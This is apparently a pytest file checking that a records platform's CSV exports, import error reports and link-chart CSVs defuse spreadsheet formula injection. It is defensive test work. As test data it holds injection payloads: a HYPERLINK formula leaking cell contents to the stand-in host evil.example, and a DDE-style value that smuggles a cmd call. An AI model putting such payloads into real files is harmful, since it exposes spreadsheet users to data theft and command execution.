"""Finding 8 (issue #20): a record export, an import's error report and a link-chart CSV
cannot carry a formula into the analyst's spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from tests.platform.importing import write_jsonl

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_record_export_defuses_a_formula_in_a_name(world: Any, tmp_path: Path) -> None:
    from usalama.records.exports import export_collection
    from usalama.records.imports import import_file

    path = tmp_path / "evil.json"
    write_jsonl(
        path,
        [
            {"id": "p-evil", "schema": "Person", "properties": {"name": [EVIL]}},
            {"id": "p-neg", "schema": "Person", "properties": {"name": ["-2+3+cmd|' /C calc'!A0"]}},
        ],
    )
    import_file(world["users"]["nps.analyst"], path, "evil")
    out = io.StringIO()
    export_collection(world["users"]["nps.analyst"], "evil", "csv", out)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert rows["p-evil"]["name"] == "'" + EVIL
    assert rows["p-neg"]["name"].startswith("'-2+3")


def test_import_error_report_defuses_the_bad_values(world: Any, tmp_path: Path) -> None:
    from usalama.records.imports import import_file

    path = tmp_path / "people.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [["id", "name", "birth"], ["1", "Juma", EVIL], ["2", "Halima", "1990-01-01"]]
        )
    mapping = tmp_path / "m.yml"
    mapping.write_text(
        "entities:\n  p:\n    schema: Person\n    keys: [id]\n    properties:\n"
        "      name: {column: name}\n      birthDate: {column: birth}\n"
    )
    report = import_file(world["users"]["nps.analyst"], path, "errs", mapping=mapping)
    text = report.errors_csv()
    assert report.error_count == 1
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell


def test_link_chart_csv_defuses_captions() -> None:
    from usalama.core.spreadsheets import defuse
    from usalama.network.exports import edge_csv

    nodes = [{"id": "a", "caption": EVIL}, {"id": "b", "caption": "@SUM(A1)"}]
    assert defuse(EVIL) == "'" + EVIL
    text, _type, _ext = edge_csv(nodes, [])
    assert next(csv.reader(io.StringIO(text)))[0] == "source"
